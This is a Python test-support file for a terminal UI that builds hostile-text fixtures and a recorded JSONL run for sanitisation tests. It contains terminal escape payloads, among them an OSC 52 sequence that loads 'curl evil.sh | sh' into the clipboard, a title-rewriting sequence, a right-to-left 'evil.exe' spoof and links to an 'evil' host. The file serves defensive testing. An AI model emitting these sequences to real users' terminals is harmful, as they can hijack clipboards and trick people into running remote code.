"""Hostile text for the tests: terminal control sequences, bidi and invisible characters, Rich markup.

``HOSTILE`` is the fixed set (what the committed recording tests/data/hostile.jsonl holds);
``hostile_text()`` is a Hypothesis strategy mixing them with C0/C1 controls and plain text.
"""

from __future__ import annotations

import unicodedata

from hypothesis import strategies as st

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
CLEAR = f"{ESC}[2J"
RED = f"{ESC}[31m"
TITLE = f"{ESC}]0;TITLE-OWNED{BEL}"
CLIPBOARD = f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}"  # "curl evil.sh | sh" into the clipboard
MARKUP = "[blink]markup[/blink]"

HOSTILE = [
    f"{CLEAR}{RED}{TITLE}{CLIPBOARD}{MARKUP}",
    f"{MARKUP}{ESC}]0;GGUF-TITLE{BEL}",
    f"name{ESC}P1$r0m{ST}dcs",
    "\x9b2J\x9d0;c1-title\x9c",  # the 8-bit C1 forms of CSI, OSC and ST
    "abc\u202eevil.exe\u202c",
    "\u2066rtl\u2069\u200bzero\u200dwidth\ufeff",
    "[bold red]x[/] [link=https://evil]click[/link] \\[escaped] [/]",
    "line1\nline2\rover\x08\x08back\x00nul\x7f",
]

_SEQUENCES = [
    CLEAR,
    RED,
    TITLE,
    CLIPBOARD,
    MARKUP,
    f"{ESC}]8;;https://evil{ST}link{ESC}]8;;{ST}",
    f"{ESC}P+q544e{ST}",
    f"{ESC}_apc{ST}",
    f"{ESC}^pm{ST}",
    f"{ESC}X sos{ST}",
    "[/]",
    "[@click=quit]q[/]",
]
_CONTROLS = [chr(c) for c in range(0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
_FORMAT = [ch for ch in map(chr, range(0x2000, 0x2070)) if unicodedata.category(ch) in ("Cf", "Zl", "Zp")] + [
    "\u00ad",
    "\u061c",
    "\ufeff",
    "\ufff9",
    "\U000e0001",
    "\ud800",
]


def hostile_text(max_size: int = 24, plain: st.SearchStrategy[str] | None = None) -> st.SearchStrategy[str]:
    """Sequences, controls, format characters, markup and ``plain`` text (any text by default), mixed."""
    piece = st.one_of(
        st.sampled_from(_SEQUENCES),
        st.sampled_from(_CONTROLS),
        st.sampled_from(_FORMAT),
        plain if plain is not None else st.text(max_size=6),
        st.sampled_from(HOSTILE),
    )
    return st.lists(piece, max_size=max_size).map("".join)


# --- the committed recording: `python tests/support/hostile.py` writes tests/data/hostile.jsonl ---------

T0 = 1_800_000_000.0
EVIL = HOSTILE[0]  # clear screen, red, OSC 0 title, OSC 52 clipboard, markup


def hostile_events() -> list:
    """A short run whose model name, process name, no-GPU reason, notice and log line are hostile."""
    from cliff_tui.events import DecodeWindow, LogLine, Notice, RunProgress, RunStarted, Sample
    from cliff_tui.records import ModelInfo, ProcessReading, RamReading, RunSettings, SwapReading

    GiB = 1024**3
    path = "/home/alice/models/evil.gguf"
    model = ModelInfo(path, EVIL, 90_000_000, "llama", 2, 4, 2, 32, 32, 4096, None, "Q4_0")
    events: list = [
        RunStarted(T0, "r1", RunSettings(path, 512, 16), model, 528),
        Notice(T0 + 0.1, f"notice {EVIL}", "warning"),
        LogLine(T0 + 0.2, 2, f"llama_model_loader: general.name str = {EVIL}"),
    ]
    for i in range(12):
        t = T0 + 0.5 + i * 0.5
        process = ProcessReading(4242, EVIL, 600_000_000 + i * 1_000_000, 0)
        events.append(
            Sample(
                t,
                RamReading(6 * GiB + i * 10_000_000, 24 * GiB, 17 * GiB),
                SwapReading(0, 2 * GiB),
                (),
                f"no GPU found {EVIL}",
                process,
            )
        )
        if i == 2:
            events.append(RunProgress(t, "r1", "decode", 512, 512))
        if i >= 2:
            events.append(
                DecodeWindow(t, "r1", "baseline" if i < 5 else "depth", 16 if i < 5 else 512, 4, 40.0 - i, 0.5)
            )
    return events


def hostile_header() -> dict:
    return {
        "type": "header",
        "format": "cliff-tui-recording",
        "schema": 1,
        "tool_version": "0.1.0",
        "created": T0,
        "command": ["run", "-m", "/home/alice/models/evil.gguf", "--pid", "4242"],
        "record_text": False,
        "machine": {
            "hostname": f"box{TITLE}",
            "platform": "linux",
            "os": f"Linux{CLEAR}",
            "cpu_count": 2,
            "python": "3.11",
        },
        "gpus": [{"index": 0, "name": f"GPU{CLIPBOARD}", "vendor": "nvidia"}],
        "driver": f"550{RED}",
    }


def write_hostile_recording(path) -> None:
    import json
    from pathlib import Path

    from cliff_tui.codec import event_to_plain

    lines = [json.dumps(hostile_header(), separators=(",", ":"))]
    lines += [json.dumps(event_to_plain(e), separators=(",", ":")) for e in hostile_events()]
    Path(path).write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    from pathlib import Path

    write_hostile_recording(Path(__file__).resolve().parents[1] / "data" / "hostile.jsonl")
